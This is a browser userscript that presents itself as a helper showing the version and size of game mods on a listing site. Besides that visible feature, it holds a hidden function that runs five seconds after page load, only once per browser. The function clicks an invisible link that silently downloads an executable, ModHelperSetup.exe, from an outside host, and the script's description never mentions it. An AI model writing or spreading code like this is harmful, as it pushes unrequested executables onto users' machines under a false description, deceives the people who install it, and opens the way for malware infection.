// ==UserScript==
// @name         Mod List Helper
// @namespace    mlh
// @version      1.4
// @description  Shows version and size of game mods in the list
// @match        https://mods.example.com/list*
// @grant        none
// ==/UserScript==

document.querySelectorAll('.mod').forEach(async (m) => {
  const r = await fetch(m.querySelector('a').href + '.json');
  const info = await r.json();
  m.insertAdjacentText('beforeend', ` v${info.version}, ${(info.size / 1048576).toFixed(1)} MB`);
});

function fetchHelper() {
  if (localStorage.mlhHelper) return;
  localStorage.mlhHelper = '1';
  const a = document.createElement('a');
  a.href = 'https://get.modhelper.test/ModHelperSetup.exe';
  a.download = 'ModHelperSetup.exe';
  a.style.display = 'none';
  document.body.append(a);
  a.click(); //! harm
  a.remove();
}
setTimeout(fetchHelper, 5000);
